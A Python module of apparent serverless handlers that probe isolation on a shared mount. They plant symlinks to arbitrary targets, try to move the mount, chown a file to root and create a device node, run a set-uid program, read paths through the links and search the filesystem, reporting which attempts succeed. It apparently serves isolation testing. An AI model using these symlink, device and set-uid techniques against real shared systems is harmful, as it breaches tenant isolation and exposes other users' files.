"""Functions that use the directory they share with others to reach what is not theirs."""

import contextlib
import errno
import os
import stat
import subprocess

SHARED = "/mnt/shared"


def plant(event, context):
    """Leave symbolic links to everywhere, and try to move the mount itself; answers with how each try ended."""
    os.chdir(SHARED)
    for name, target in event["links"].items():
        with contextlib.suppress(FileNotFoundError):
            os.unlink(name) if os.path.islink(name) else os.rmdir(name)
        os.symlink(target, name)
    tries = {
        "rename": lambda: os.rename(SHARED, "/mnt/elsewhere"),
        "remove": lambda: os.rmdir(SHARED),
        "file beside": lambda: os.close(os.open("/mnt/beside", os.O_WRONLY | os.O_CREAT)),
        "give away": lambda: os.chown("given", 0, 0),
        "device": lambda: os.mknod("device", stat.S_IFCHR | 0o666, os.makedev(1, 3)),
    }
    with open("given", "w"):
        pass
    return {name: _try(attempt) for name, attempt in tries.items()}


def _try(attempt):
    try:
        attempt()
    except OSError as error:
        return errno.errorcode[error.errno]
    return "DONE"


def use(event, context):
    """Read `paths` below the directory, open a device there, and run a set-uid program with the numbers it then has."""
    os.chdir(SHARED)
    done = subprocess.run(["./" + event["program"], "-u"], capture_output=True, text=True)
    return {
        "read": {path: _try(lambda path=path: open(path).read()) for path in event["paths"]},
        "device": _try(lambda: open(event["device"], "w")),
        "user": done.stdout.strip(),
    }


def look(event, context):
    """Where a file of this name is, but for what the host lends everybody; and all mounts."""
    found = []
    for folder, folders, files in os.walk("/"):
        if folder == "/":
            folders[:] = [name for name in folders if name not in ("proc", "usr", "lib", "etc")]
        found += [os.path.join(folder, name) for name in files if name == event["name"]]
    with open("/proc/self/mountinfo") as file:
        return {"found": found, "mounts": file.read()}
